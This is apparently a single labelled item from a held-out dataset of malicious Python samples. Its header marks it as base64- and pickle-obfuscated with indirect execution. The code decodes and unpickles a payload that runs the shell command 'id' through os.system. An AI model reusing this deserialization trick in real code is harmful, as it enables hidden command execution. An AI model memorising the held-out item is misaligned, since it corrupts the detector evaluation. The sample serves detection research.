# label: malicious; obfuscated: base64,pickle; evasion: indirect_exec; set: heldout
import base64
import pickle
pickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))
